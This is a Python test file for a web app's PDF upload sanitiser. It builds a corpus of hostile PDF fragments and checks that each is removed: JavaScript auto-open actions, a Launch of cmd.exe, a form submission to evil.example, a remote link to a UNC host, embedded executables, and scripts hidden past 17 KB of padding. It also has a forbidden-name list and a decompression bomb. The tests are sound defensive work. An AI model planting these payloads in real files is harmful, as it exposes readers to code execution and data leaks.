"""PDFs are opened with qpdf and kept only as qpdf rewrites them: without scripts, actions that
run or open something, attached files or XFA forms, whatever way a file hides them."""

from __future__ import annotations

import io
import time
import zlib

import pikepdf
import pytest
from PIL import Image

from webapp.uploads import UploadRejected, process_upload

from .builders import (
    CATALOG,
    PAGE,
    append_update,
    build_pdf,
    build_pdf_with_object_stream,
    encode,
    noise,
    pages_tree,
    simple_objects,
    stream_object,
)

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert('hostile')) >>"
PAYLOAD = b"app.alert"
# Names that must never survive, as keys or as the type of an action.
FORBIDDEN = {
    "/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/XFA",
    "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition", "/RichMedia",
    "/FileAttachment", "/Filespec", "/Movie", "/Sound",
}


def rejection(data: bytes) -> str:
    with pytest.raises(UploadRejected) as caught:
        process_upload(data)
    return caught.value.code


def with_catalog(extra_entries: bytes, pages: int = 1) -> dict[int, bytes]:
    """Plain PDF objects whose catalog carries extra entries (actions, names, forms)."""
    objects = simple_objects(pages)
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra_entries
    return objects


def with_annotation(annotation: bytes) -> dict[int, bytes]:
    """A one-page PDF whose page carries one annotation (object 8)."""
    objects = simple_objects()
    objects[3] = PAGE.replace(b">>", b"/Annots [8 0 R] >>")
    objects[8] = annotation
    return objects


def names_in(content: bytes) -> set[str]:
    """Every name used in the stored PDF, read back by pikepdf: keys and values alike."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for item in [*pdf.objects, pdf.trailer]:
            _collect_names(item, found, 0)
    return found


def _collect_names(item, found: set[str], depth: int) -> None:
    if isinstance(item, pikepdf.Name):
        found.add(str(item))
    if depth > 50 or getattr(item, "is_indirect", False) and depth:
        return  # an indirect object is read on its own, from pdf.objects
    if isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
        found.update(item.keys())
        values = [item[key] for key in item.keys()]
    elif isinstance(item, pikepdf.Array):
        values = list(item)
    else:
        return
    for value in values:
        _collect_names(value, found, depth + 1)


def assert_inert(content: bytes) -> None:
    """The stored file holds no active part: read back by a parser, and in its plain bytes
    (the rewrite leaves no object streams, so a string in a dictionary is there to see)."""
    assert not names_in(content) & FORBIDDEN
    assert PAYLOAD not in content
    assert content.startswith(b"%PDF-") and content.rstrip().endswith(b"%%EOF")


def test_pdf_made_by_pillow_is_kept_with_its_pages():
    original = encode(Image.new("RGB", (595, 842), "white"), "PDF")

    result = process_upload(original)

    assert (result.media_type, result.extension) == ("application/pdf", ".pdf")
    assert (result.width, result.height, result.pages) == (None, None, 1)
    with pikepdf.open(io.BytesIO(result.content)) as pdf:
        assert len(pdf.pages[0].get_images()) == 1  # the scanned page's picture is still there


def test_pages_are_counted():
    first, *rest = [Image.new("RGB", (100, 140), color) for color in ("red", "green", "blue")]

    result = process_upload(encode(first, "PDF", save_all=True, append_images=rest))

    assert result.pages == 3


def test_scanned_pdf_with_a_large_noisy_photo_is_accepted():
    original = encode(noise((1500, 1500)), "PDF", quality=95)

    result = process_upload(original)

    assert result.pages == 1
    # The photo's bytes are copied as they were, not decoded and squeezed again.
    assert abs(len(result.content) - len(original)) < 2000


def test_page_rewritten_by_an_incremental_update_counts_once():
    signed = append_update(build_pdf(simple_objects(2)), {3: PAGE.replace(b">>", b"/Annots [] >>")})

    assert process_upload(signed).pages == 2


def test_pages_inside_a_compressed_object_stream_are_counted():
    inner = {2: pages_tree(3, first_page=3), 3: PAGE, 4: PAGE, 5: PAGE}

    assert process_upload(build_pdf_with_object_stream({1: CATALOG}, inner)).pages == 3


def test_the_stored_file_is_the_rewritten_one_without_object_streams_or_trailing_bytes():
    inner = {2: pages_tree(1), 3: PAGE}
    original = build_pdf_with_object_stream({1: CATALOG}, inner) + b"<html>polyglot</html>\n"

    stored = process_upload(original).content

    assert stored != original
    assert b"/ObjStm" not in stored and b"polyglot" not in stored
    assert process_upload(stored).content == stored  # a second rewrite changes nothing


# --- Today's bypass and its variants ---


def test_javascript_in_an_object_stream_whose_first_hides_past_16_kb_of_padding_is_removed():
    """The walk-around of issue 10: /OpenAction points at JavaScript stored in a compressed
    object stream whose /First sat beyond the old scanner's 16 KB window."""
    hostile = build_pdf_with_object_stream(
        with_catalog(b"/OpenAction 9 0 R"), {9: JAVASCRIPT}, padding=17_000)
    with pikepdf.open(io.BytesIO(hostile)) as pdf:  # a reader does find and run it
        assert pdf.Root.OpenAction.S == "/JavaScript"

    result = process_upload(hostile)

    assert result.pages == 1
    assert_inert(result.content)


CORPUS = {
    "open-action": with_catalog(b"/OpenAction " + JAVASCRIPT),
    "escaped-name": with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "lowercase-name": with_catalog(b"/OpenAction << /S /javascript /JS (app.alert(1)) >>"),
    "javascript-name-tree": with_catalog(b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>"),
    "document-aa": with_catalog(b"/AA << /WC " + JAVASCRIPT + b" >>"),
    "launch": with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "remote-goto": with_catalog(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0] >>"),
    "embedded-file": with_catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>"),
    "xfa": with_catalog(b"/AcroForm << /Fields [] /XFA 11 0 R >>"),
    "page-aa": {**simple_objects(), 3: PAGE.replace(b">>", b"/AA << /O " + JAVASCRIPT + b" >> >>")},
    "link-javascript-uri": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
        b"/URI ( javascript:app.alert(1)) >> >>"),
    "link-launch": with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>"),
    "chained-next": with_catalog(b"/Outlines << /First 12 0 R /Last 12 0 R >>"),
    "widget-submit": with_annotation(
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /T (ok) /A << /S /SubmitForm "
        b"/F (https://evil.example/) >> /AA << /K " + JAVASCRIPT + b" >> >>"),
    "widget-import": with_annotation(
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /ImportData /F (x.fdf) >> >>"),
    "file-attachment": with_annotation(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 13 0 R >>"),
    "rich-media": with_annotation(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "rendition": with_catalog(b"/OpenAction << /S /Rendition /OP 0 >>"),
}
EXTRA_OBJECTS = {
    9: JAVASCRIPT,
    10: b"<< /Type /Filespec /F (a.exe) /EF << /F 14 0 R >> >>",
    11: stream_object(b"", b"<xdp:xdp>app.alert(1)</xdp:xdp>"),
    12: b"<< /Title (Trang 1) /Dest [3 0 R /Fit] /A << /S /GoTo /D [3 0 R /Fit] /Next [ "
        + JAVASCRIPT + b" << /S /Launch /F (x.exe) >> ] >> >>",
    13: b"<< /Type /Filespec /F (a.exe) /EF << /F 14 0 R >> >>",
    14: stream_object(b"/Type /EmbeddedFile", b"MZ app.alert(1)"),
}


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_active_parts_are_removed(name):
    objects = {**EXTRA_OBJECTS, **CORPUS[name]}

    result = process_upload(build_pdf(objects))

    assert result.pages == 1
    assert_inert(result.content)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_active_parts_hidden_in_an_object_stream_are_removed(name):
    objects = {**EXTRA_OBJECTS, **CORPUS[name]}
    compressed = {n: body for n, body in objects.items() if b"stream\n" not in body}
    plain = {n: body for n, body in objects.items() if n not in compressed}

    stored = process_upload(build_pdf_with_object_stream(plain, compressed, padding=17_000))

    assert_inert(stored.content)


def test_javascript_added_by_an_incremental_update_is_removed():
    clean = build_pdf({**simple_objects(), 9: JAVASCRIPT})

    updated = append_update(clean, {1: CATALOG.replace(b">>", b"/OpenAction 9 0 R >>")})

    assert_inert(process_upload(updated).content)


def test_javascript_left_in_an_earlier_revision_is_dropped():
    # The update replaced the catalog; the old one, with its script, is unreachable but still in
    # the bytes, where a reader rebuilding a damaged file could find it.
    hostile = build_pdf(with_catalog(b"/OpenAction " + JAVASCRIPT))

    updated = append_update(hostile, {1: CATALOG})

    assert_inert(process_upload(updated).content)


def test_ordinary_links_and_bookmarks_are_kept():
    objects = with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
        b"/URI (https://dichvucong.gov.vn/) >> >>")
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>"
    objects[5] = b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>"
    objects[6] = b"<< /Title (Trang 1) /Parent 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"

    stored = process_upload(build_pdf(objects)).content

    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert str(pdf.pages[0].Annots[0].A.URI) == "https://dichvucong.gov.vn/"
        assert pdf.Root.Outlines.First.A.S == "/GoTo"


def test_pdf_protected_without_a_password_is_kept_unprotected():
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(build_pdf(simple_objects()))) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user=""))
    assert b"/Encrypt" in buffer.getvalue()

    stored = process_upload(buffer.getvalue()).content

    assert b"/Encrypt" not in stored
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert not pdf.is_encrypted


def test_pdf_that_needs_a_password_is_refused():
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(build_pdf(simple_objects()))) as pdf:
        pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner", user="secret"))

    assert rejection(buffer.getvalue()) == "pdf_encrypted"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40,  # right magic, then garbage and no %%EOF
        b"%PDF-1.4\n%%EOF\n",  # a header and an end, nothing between
        b"%PDF-hello world\n%%EOF",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF",  # no page at all
    ],
    ids=["garbage", "empty-body", "bad-version", "no-pages"],
)
def test_pdf_lookalikes_are_corrupt(data):
    assert rejection(data) == "corrupt"


def test_truncated_pdf_is_corrupt():
    whole = encode(noise((400, 400)), "PDF")

    assert rejection(whole[: len(whole) - 2000]) == "corrupt"


def test_a_little_padding_after_eof_is_tolerated():
    assert process_upload(build_pdf(simple_objects()) + b"\x00" * 500).pages == 1


def test_object_stream_zip_bomb_is_refused_or_cheap():
    # 70 MB of spaces in 70 KB: qpdf inflates object streams as a reader must. In the web app
    # this runs in the sandbox, whose memory limit refuses far smaller bombs (test_sandbox.py).
    bomb = zlib.compress(b" " * 70_000_000, 9)
    stream = stream_object(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)
    started = time.process_time()

    try:
        process_upload(build_pdf({**simple_objects(), 10: stream}))
    except UploadRejected:
        pass

    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    "body",
    [b"1" * 5_000_000, b"stream\n" * 700_000, b"1 0 obj " * 600_000, b"(" * 5_000_000,
     b"[" * 2_000_000, b"<<" * 1_000_000],
    ids=["digits", "stream-keywords", "headers", "brackets", "nested-arrays", "nested-dicts"],
)
def test_hostile_bodies_are_refused_quickly(body):
    started = time.process_time()

    with pytest.raises(UploadRejected):
        process_upload(b"%PDF-1.7\n" + body + b"\n%%EOF\n")

    assert time.process_time() - started < 2
